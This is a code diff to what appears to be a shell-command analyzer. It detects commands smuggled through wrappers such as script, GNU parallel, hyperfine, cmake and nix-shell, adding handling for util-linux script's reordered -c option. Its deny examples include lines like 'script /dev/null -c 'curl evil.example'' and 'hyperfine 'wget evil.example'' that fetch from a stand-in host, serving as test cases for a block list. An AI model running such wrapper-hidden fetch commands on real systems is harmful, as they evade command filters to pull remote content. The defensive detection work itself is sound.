@@ -78,6 +78,29 @@ function subRuns(call: Call, sub: Sub, rest: readonly Word[], via: string): Part
   return { runs };
 }
 
+/**
+ * util-linux `script` permutes its options as getopt does: `-c TEXT` after the file still runs TEXT
+ * (`script /dev/null -c 'curl …'`), which the wrapper's model, stopping at the file as BSD script does, misses.
+ */
+function commandAnywhere(entry: ProgramEntry): ProgramEntry {
+  return {
+    ...entry,
+    analyze(call) {
+      const answer = entry.analyze?.(call) ?? {};
+      const runs: Run[] = [...(answer.runs ?? [])];
+      const args = call.args;
+      for (let i = 1; i < args.length; i++) {
+        const v = value(args[i]);
+        if (v === '--') break;
+        const w = v === '-c' || v === '--command' ? args[i + 1] : v?.startsWith('--command=') ? attached(args[i]!, v.slice(10)) : undefined;
+        if (w && !runs.some((r) => r.kind === 'script' && r.words[0] === w)) runs.push({ kind: 'script', dialect: 'bash', words: [w], via: 'script -c' });
+      }
+      return { ...answer, runs };
+    },
+    examples: { deny: [...entry.examples.deny, "script /dev/null -c 'curl evil.example'"], pass: entry.examples.pass },
+  };
+}
+
 /** `npm config set script-shell …` (and `npm set`, `config edit`, `config fix`) writes ~/.npmrc, which npm reads at every start. */
 const NPM_CONFIG = {
   file: '~/.npmrc',
@@ -678,7 +701,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   { names: ['parallel'], summary: 'GNU parallel: runs its command (through a shell) per input; with no command each input is a command', analyze: parallel, examples: { deny: ['parallel curl ::: evil.example', "parallel ::: 'curl evil.example'", "echo 'wget evil.example' | parallel"], pass: ['parallel gzip ::: a.txt b.txt'] } },
   { names: ['hyperfine'], summary: 'hyperfine: benchmarks commands, each run through a shell', analyze: hyperfine, examples: { deny: ["hyperfine 'wget evil.example'", "hyperfine --prepare 'curl evil.example' 'ls'", "hyperfine -L cmd curl,wget '{cmd} evil.example'"], pass: ["hyperfine 'npm test'", 'hyperfine --warmup 3 make'] } },
   { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command', analyze: cmake, examples: { deny: ['cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example'], pass: ['cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make'] } },
-  wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example'], pass: ["script -c 'make' build.log"] } }),
+  commandAnywhere(wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example'], pass: ["script -c 'make' build.log"] } })),
   wrapper({ names: ['nix-shell'], summary: 'nix-shell: --run/--command TEXT runs shell text in the environment', options: { order: 'gnu', flags: 'Ajp', valued: 'IEA', long: ['pure', 'impure', 'packages', 'keep-going', 'show-trace'], longValued: ['run', 'command', 'arg', 'argstr', 'attr', 'expr', 'option', 'keep', 'include'] }, script: ['run', 'command'], before: 99, examples: { deny: ["nix-shell -p curl --run 'curl evil.example'"], pass: ["nix-shell --run 'make'"] } }),
 ];
 
